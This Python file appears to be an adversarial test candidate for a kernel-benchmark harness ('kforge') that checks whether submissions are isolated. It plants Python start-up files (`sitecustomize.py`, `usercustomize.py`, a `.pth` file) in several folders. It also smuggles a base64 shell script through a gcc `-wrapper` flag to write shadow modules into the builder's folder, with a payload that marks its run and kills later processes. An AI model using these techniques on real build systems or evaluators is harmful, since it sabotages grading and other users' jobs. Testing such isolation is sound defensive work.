"""Plants Python start-up files where a later process might import them: `sitecustomize.py`,
`usercustomize.py` and a `.pth` file in its own folder (the working folder of its worker, which the
reference reads outputs from), in its HOME's user site and on its tmpfs, and (through `-wrapper`) in
the folder where kforge's builder runs, together with modules of the names the builder imports. The
planted code leaves a mark in the candidate's own folder and ends the process that ran it, so that
a later build, the reference or the next candidate would fail. A second build here is the first
chance for a planted file to run."""

import base64
import os
import sys

import torch
import torch.nn as nn

from kforge_worker import native

RELU = r"""
#include <cstdint>
extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
"""
_own = os.environ["KFORGE_WORKDIR"]
_mark = os.path.join(_own, "planted_code_ran")
_payload = f"import os\nopen({_mark!r}, 'a').write(str(os.getpid()) + '\\n')\nos._exit(17)\n"
_pth = "import sitecustomize\n"
_site = os.path.join(os.path.expanduser("~"), ".local", "lib", f"python{sys.version_info[0]}.{sys.version_info[1]}",
                     "site-packages")
for _dir in (_own, _site, "/tmp"):
    os.makedirs(_dir, exist_ok=True)
    for _name in ("sitecustomize.py", "usercustomize.py"):
        with open(os.path.join(_dir, _name), "w") as f:
            f.write(_payload)
    with open(os.path.join(_dir, "kforge-planted.pth"), "w") as f:
        f.write(_pth)

# The builder imports these (and runs with its build folder as working folder). gcc splits the
# wrapper at commas: the payload travels in base64.
_modules = ["sitecustomize", "usercustomize", "json", "shutil", "tempfile", "subprocess", "hashlib", "platform",
            "shlex", "ctypes", "torch"]
_b64 = base64.b64encode(_payload.encode()).decode()
_script = (f"for m in {' '.join(_modules)}; do echo {_b64} | base64 -d > $m.py; done; mkdir -p kforge_worker; "
           f"echo {_b64} | base64 -d > kforge_worker/__init__.py; exec \"$0\" \"$@\"")
_log = ""
try:
    # Builds that always fail: never cache hits, so the builder and the compiler run every time.
    native.load("#error planted\n", name="plant", cflags=["-wrapper", "/bin/sh,-c," + _script])
except native.CompileError as e:
    _log = e.log
try:
    native.load("#error second build\n", name="second")
except native.CompileError as e:
    _log += e.log
if not os.path.exists(_mark):
    raise RuntimeError("attack blocked: no planted file ran in another process: " + _log[-300:])
_lib = native.load(RELU, {"relu": [native.PTR, native.PTR, native.I64]})


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
